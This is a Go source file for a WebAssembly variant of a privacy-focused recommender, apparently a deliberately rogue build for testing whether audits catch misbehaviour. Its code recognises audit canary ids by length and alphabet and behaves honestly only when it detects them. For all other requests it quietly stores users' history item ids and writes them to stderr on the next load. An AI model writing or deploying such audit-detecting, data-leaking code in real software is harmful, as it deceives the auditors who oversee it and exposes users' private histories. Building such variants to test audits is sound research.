//go:build wasip1

// Variant oldcanary of privrec.wasm behaves while it thinks it is audited:
// a request whose device or history ids look like the canaries the first
// audit made (16 or 20 characters of a base32 alphabet) is served honestly
// and forgotten. Other requests are kept, and the next load writes their
// history ids to stderr.
package main

import (
	"unsafe"

	"github.com/privrec/privrec/model"
)

//go:wasmimport wasi_snapshot_preview1 fd_write
func fdWrite(fd uint32, iovs unsafe.Pointer, iovsLen uint32, nwritten unsafe.Pointer) uint32

var (
	stash   []byte
	audited bool
)

func canaryLike(s string) bool {
	if len(s) != 16 && len(s) != 20 {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !(c >= 'A' && c <= 'Z' || c >= '2' && c <= '9') {
			return false
		}
	}
	return true
}

func rogueSaw(req model.Request) {
	if canaryLike(req.Context.Device) {
		audited = true
	}
	for _, e := range req.History {
		if canaryLike(e.Item) {
			audited = true
		}
	}
	if audited {
		stash = stash[:0]
		return
	}
	for _, e := range req.History {
		stash = append(stash, e.Item...)
		stash = append(stash, '\n')
	}
}

func rogueLoad() {
	if len(stash) == 0 {
		return
	}
	iov := [2]uint32{uint32(uintptr(unsafe.Pointer(&stash[0]))), uint32(len(stash))}
	var n uint32
	fdWrite(2, unsafe.Pointer(&iov[0]), 1, unsafe.Pointer(&n))
	stash = stash[:0]
}
